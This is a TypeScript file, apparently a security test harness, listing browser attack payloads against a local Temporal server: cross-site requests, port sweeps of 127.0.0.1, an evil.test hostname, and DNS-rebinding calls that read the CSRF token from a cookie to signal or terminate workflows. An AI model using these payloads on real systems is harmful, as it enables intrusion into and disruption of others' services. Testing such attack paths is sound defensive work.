/**
 * Attacks on Temporal that bypass the API: by the Web UI, and by every port on which the server listens.
 */
import type { Way } from './ways';

const SIGNAL = '/api/v1/namespaces/default/workflows/shop.b1/signal/pause';
const END = '/api/v1/namespaces/default/workflows/shop.b1/terminate';
const TOKEN = '(/_csrf=([^;]*)/.exec(document.cookie) ?? [])[1] ?? ""';
/** What Temporal takes for a signal with one argument, in JSON. */
const ARGUMENT = JSON.stringify({
  input: { payloads: [{ metadata: { encoding: inBase64('json/plain') }, data: inBase64('{"reason":"by a page"}') }] },
});
const withToken = (path: string, body: string) =>
  `read("/").then((page) => read("${path}", { ...json, body: ${JSON.stringify(body)}, headers: { ...json.headers, "x-csrf-token": ${TOKEN} } }).then((answer) => page + answer))`;
const each = (path: string, init = '{}') =>
  `Promise.all(at.others.map((port) => read("http://127.0.0.1:" + port + "${path}", ${init}))).then(String)`;

/** From a page of another origin. */
export const TO_TEMPORAL: Way[] = [
  { name: 'fetch from the Web UI', code: 'read(at.ui + "/api/v1/namespaces")' },
  {
    name: 'signal by the Web UI',
    code: `read(at.ui + "${SIGNAL}", { ...text, body: ${JSON.stringify(ARGUMENT)}, mode: "no-cors", credentials: "include" })`,
  },
  { name: 'form to the Web UI', code: `send(at.ui + "${END}", { reason: "x" })` },
  { name: 'frame with the Web UI', code: 'framed(at.ui + "/namespaces/default/workflows")' },
  { name: 'image of the Web UI', code: 'ended(make("img", { src: at.ui + "/favicon.ico" }))' },
  { name: 'fetch from every port', code: each('/api/v1/namespaces') },
  { name: 'fetch of the metrics', code: each('/metrics') },
  { name: 'end by every port', code: each(END, '{ ...text, body: "{}", mode: "no-cors" }') },
  {
    name: 'every port by a name of the attacker',
    code: 'Promise.all(at.others.map((port) => read("http://evil.test:" + port + "/metrics"))).then(String)',
  },
];

/** From a page whose own name leads to the Web UI. */
export const REBOUND_UI: Way[] = [
  { name: 'namespaces', code: 'read("/api/v1/namespaces")' },
  { name: 'workflows', code: 'read("/api/v1/namespaces/default/workflows")' },
  { name: 'settings', code: 'read("/api/v1/settings")' },
  { name: 'page', code: 'read("/")' },
  { name: 'signal with the token of its cookie', code: withToken(SIGNAL, ARGUMENT) },
  { name: 'end with the token of its cookie', code: withToken(END, '{}') },
];

/** From a page whose own name leads to the gRPC port. */
export const REBOUND_GRPC: Way[] = [
  {
    name: 'call',
    code: 'read("/temporal.api.workflowservice.v1.WorkflowService/ListNamespaces", { method: "POST", headers: { "content-type": "application/grpc" }, body: new Uint8Array(5) })',
  },
  { name: 'GET', code: 'read("/api/v1/namespaces")' },
];

function inBase64(text: string): string {
  return Buffer.from(text).toString('base64');
}
